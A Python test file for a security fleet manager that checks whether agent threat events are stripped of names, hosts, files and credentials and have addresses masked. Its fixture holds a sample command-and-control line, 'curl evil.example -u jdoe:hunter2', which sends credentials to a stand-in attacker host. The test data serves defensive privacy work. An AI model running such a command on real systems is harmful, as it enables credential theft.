"""Raw events of agents: what a threat report has is taken, and nothing that names a person, host or file."""

import json
from dataclasses import asdict
from typing import Any

import msgspec
from hypothesis import given
from hypothesis import strategies as st

from app.fleet.agents import SelfReport
from app.fleet.manager import (
    AgentEvent,
    AgentHeartbeat,
    AgentRegistration,
    DeviceHeartbeat,
    of_device,
    of_heartbeat,
    of_registration,
    threat_of,
)
from app.intel.reports.threats import Cleaner
from app.privacy.anonymisation import Pseudonyms

from .database import NOW

PSEUDONYMS = Pseudonyms(b"k" * 32)
CLEANER = Cleaner(PSEUDONYMS, NOW)


def sent(conclusion: str = "malicious", **event: Any) -> AgentEvent:
    raw = {
        "id": "evt-1",
        "timestamp": "2026-04-17T09:44:12.345Z",
        "source": "process",
        "severity": "high",
        "category": "c2_beacon",
        "description": "curl run by jdoe on lab-host-7",
        "raw": {"command": "curl evil.example -u jdoe:hunter2"},
        "host": "lab-host-7",
        "metadata": {
            "sourceIP": "45.83.12.77",
            "mitreTechnique": "T1071.001",
            "userName": "jdoe",
            "commandLine": "curl evil.example -u jdoe:hunter2",
            "filePath": "/home/jdoe/secret.txt",
        },
    }
    body = {
        "event": raw | event,
        "verdict": {"conclusion": conclusion, "confidence": 91, "action": "notify"},
    }
    return msgspec.convert(body, AgentEvent)


def test_what_a_threat_report_has_is_taken() -> None:
    threat = threat_of(sent(), CLEANER)
    assert threat.hour == "2026-04-17T09:00:00.000Z"
    assert threat.source_network == "45.83.0.0/16"
    assert (threat.attack_type, threat.mitre_technique) == ("c2_beacon", "T1071.001")
    assert threat.detail == {
        "severity": "high",
        "conclusion": "malicious",
        "confidence": 91,
        "action": "notify",
    }


def test_nothing_else_is() -> None:
    text = json.dumps(asdict(threat_of(sent(), CLEANER)))
    for private in ("jdoe", "hunter2", "lab-host-7", "secret", "09:44", "curl", "evt-1"):
        assert private not in text


def test_an_address_is_evidence_only_when_the_agent_was_sure() -> None:
    assert threat_of(sent("malicious"), CLEANER).exact_source == "45.83.12.77"
    for conclusion in ("suspicious", "unknown", ""):
        assert threat_of(sent(conclusion), CLEANER).exact_source is None


WORDS = st.text(alphabet=st.characters(codec="utf-8"), max_size=30)


@given(
    st.dictionaries(
        st.sampled_from(["sourceIP", "remoteAddress", "mitreTechnique", "x"]),
        WORDS | st.integers() | st.none(),
    ),
    WORDS | st.none(),
    st.ip_addresses(),
)
def test_whatever_comes_an_address_is_stored_masked(
    metadata: dict[str, Any], category: str | None, address: Any
) -> None:
    event = sent(metadata=metadata | {"sourceIP": str(address)}, category=category)
    threat = threat_of(event, CLEANER)
    assert threat.source_network is not None
    assert threat.source_network.endswith(("/16", "/48"))
    assert threat.attack_type


def test_an_event_that_says_little_is_an_event() -> None:
    threat = threat_of(msgspec.convert({"event": {}}, AgentEvent), CLEANER)
    assert (threat.source_network, threat.attack_type) == (None, "unknown")


def test_what_agents_say_of_themselves() -> None:
    assert of_registration(AgentRegistration("host\n1", "Linux 6.1", "x64", "1.0.0")) == SelfReport(
        hostname="host 1", os="Linux 6.1", arch="x64"
    )
    said = msgspec.convert({"eventsProcessed": 5, "uptime": 61_500, "memoryUsageMB": 80.5}, AgentHeartbeat)
    assert of_heartbeat(said) == SelfReport(events=5, uptime_seconds=61, memory_mb=80.5)
    device = of_device(DeviceHeartbeat("uuid-1", "host-1", "linux", 3, "1.6.0"), PSEUDONYMS)
    assert (device.agents, device.version, device.hostname) == (3, "1.6.0", "host-1")
    assert device.device == PSEUDONYMS.of("device", "uuid-1")


def test_the_version_that_every_guard_gives_is_none() -> None:
    """Stock Guards of all versions call themselves 1.0.0, or `guard`: shown, it would mislead."""
    assert of_registration(AgentRegistration("h", version="1.0.0")).version is None
    assert of_registration(AgentRegistration("h", version="1.9.0")).version == "1.9.0"
    assert of_device(DeviceHeartbeat("u", guard_version="guard"), PSEUDONYMS).version is None
